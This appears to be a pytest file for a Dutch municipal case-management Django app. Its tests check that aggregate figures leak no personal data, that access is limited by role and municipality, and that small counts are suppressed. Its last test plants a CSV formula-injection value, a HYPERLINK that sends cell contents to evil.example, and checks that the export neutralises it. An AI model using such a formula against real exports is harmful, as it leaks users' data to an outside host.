"""Aggregates for the municipality: counts only, no personal data in page, API or export."""

from __future__ import annotations

import pytest
from django.test import Client

from keten.accounts.models import Role
from keten.core.models import AuditEvent
from keten.testing.auth import login_verified
from keten.testing.factories import make_dossier, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def many_dossiers():
    prof = make_user(Role.PROFESSIONAL)
    return [
        make_dossier(prof, family_name=f"Gezin Geheim{i}", bsn=bsn)
        for i, bsn in enumerate(["999993136", "999993215", "999990317", "999994281", "999990743", "999993070"])
    ]


def test_policy_officer_sees_counts_but_no_names(many_dossiers):
    client = login_verified(Client(), make_user(Role.BELEIDSMEDEWERKER))
    pages = [client.get("/"), client.get("/api/v1/figures/dossiers/"), client.get("/cijfers.csv")]
    assert [p.status_code for p in pages] == [200, 200, 200]
    for page in pages:
        text = page.content.decode()
        assert "Geheim" not in text
        assert "999993136" not in text
        for dossier in many_dossiers:
            assert dossier.reference not in text
            assert dossier.family.pseudonym not in text
    assert pages[1].json()["open"] == 6
    assert AuditEvent.objects.filter(action="export", object_type="figures").count() == 1


@pytest.mark.parametrize("role", [Role.PROFESSIONAL, Role.AANDACHTSFUNCTIONARIS, Role.TEAMLEIDER, Role.VEILIG_THUIS])
def test_case_roles_get_404_on_municipal_figures(role):
    client = login_verified(Client(), make_user(role))
    assert client.get("/api/v1/figures/dossiers/").status_code == 404
    assert client.get("/cijfers.csv").status_code == 404


def test_policy_officer_cannot_reach_dossiers_by_api(many_dossiers):
    client = login_verified(Client(), make_user(Role.BELEIDSMEDEWERKER))
    assert client.get("/api/v1/dossiers/").json()["count"] == 0
    assert client.get(f"/api/v1/dossiers/{many_dossiers[0].reference}/").status_code == 404


# --- own municipality, complementary suppression, safe export --------------------------------


def _dossiers_in(wijk, n: int, member=None, *, status: str = "open") -> list:
    from keten.dossiers.models import Dossier, Family

    member = member or make_user(Role.PROFESSIONAL)
    made = [make_dossier(member) for _ in range(n)]
    Family.objects.filter(dossier__in=made).update(wijk=wijk)
    if status != "open":
        Dossier.objects.filter(pk__in=[d.pk for d in made]).update(status=status)
    return made


@pytest.fixture
def elsewhere():
    from keten.testing.factories import MunicipalityFactory, OrganisationFactory, WijkFactory

    municipality = MunicipalityFactory(name="Elders", cbs_code="GM0001")
    organisation = OrganisationFactory(name="Wijkteam Elders", municipality=municipality)
    return {"wijk": WijkFactory(municipality=municipality, name="Elders-Centrum"), "organisation": organisation}


def test_figures_count_only_the_own_municipality(elsewhere):
    from keten.testing.factories import WijkFactory

    noord = WijkFactory(name="Noord")  # in the default test municipality
    _dossiers_in(noord, 6)
    outsider = make_user(Role.PROFESSIONAL, elsewhere["organisation"])
    _dossiers_in(elsewhere["wijk"], 7, outsider)  # families living in the other municipality
    _dossiers_in(None, 5, outsider)  # no wijk known, worked on only by the other municipality
    client = login_verified(Client(), make_user(Role.BELEIDSMEDEWERKER))
    figures = client.get("/api/v1/figures/dossiers/").json()
    assert figures["open"] == 6
    assert [row["wijk"] for row in figures["by_wijk"]] == ["Noord"]
    assert figures["by_wijk"][0]["open"] == 6
    assert figures["by_org_type"] == [{"type": "Wijkteam / sociaal team", "dossiers": 6}]
    for page in (client.get("/cijfers.csv"), client.get("/")):
        assert "Elders-Centrum" not in page.content.decode()
    # And the other municipality sees its own 12, not ours.
    theirs = login_verified(Client(), make_user(Role.BELEIDSMEDEWERKER, elsewhere["organisation"]))
    assert theirs.get("/api/v1/figures/dossiers/").json()["open"] == 12


def test_a_hidden_cell_cannot_be_derived_from_the_total():
    from keten.testing.factories import WijkFactory

    noord, zuid, west = (WijkFactory(name=name) for name in ("Noord", "Zuid", "West"))
    _dossiers_in(noord, 7)
    _dossiers_in(zuid, 6)
    _dossiers_in(west, 2)
    _dossiers_in(noord, 3, status="closed")
    client = login_verified(Client(), make_user(Role.BELEIDSMEDEWERKER))
    figures = client.get("/api/v1/figures/dossiers/").json()
    assert figures["open"] == 15
    # 15 - 7 - 6 would give West's 2 away: Zuid, the next smallest, is hidden as well.
    assert {row["wijk"]: row["open"] for row in figures["by_wijk"]} == {"Noord": 7, "West": None, "Zuid": None}
    assert figures["closed"] is None  # 3: a small total is hidden too
    csv_text = client.get("/cijfers.csv").content.decode()
    assert "Noord;7" in csv_text
    assert "Zuid;x" in csv_text
    html = client.get("/").content.decode()
    assert "Open dossiers: 15; gesloten dossiers: x" in html
    assert " 3 gesloten" not in html


def test_figures_csv_neutralises_a_formula_in_a_wijk_name():
    from keten.testing.factories import WijkFactory

    crafted = WijkFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Noord")')
    _dossiers_in(crafted, 6)
    client = login_verified(Client(), make_user(Role.BELEIDSMEDEWERKER))
    text = client.get("/cijfers.csv").content.decode()
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Noord"")";6' in text
    assert "\n=HYPERLINK" not in text
    assert ";=HYPERLINK" not in text
